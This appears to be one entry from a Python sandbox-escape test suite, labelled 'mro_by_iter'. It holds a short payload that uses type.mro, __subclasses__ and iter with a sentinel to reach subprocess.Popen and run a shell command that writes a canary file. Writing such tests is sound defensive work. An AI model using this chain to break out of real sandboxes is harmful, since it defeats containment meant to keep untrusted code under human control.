# id: 525
# name: mro_by_iter
# category: interpreter
# technique: type.mro and iter(callable, sentinel)
# breach: file
# looks_like: CANARY_FILE is created
# baseline: inproc
o = next(iter(type.mro.__get__(int), None))[-1]
subs = next(iter(type.__subclasses__.__get__(o), None))
for c in subs:
    if c.__name__ == 'Popen':
        c(['/bin/sh', '-c', 'echo breach > ' + CANARY_FILE]).wait()
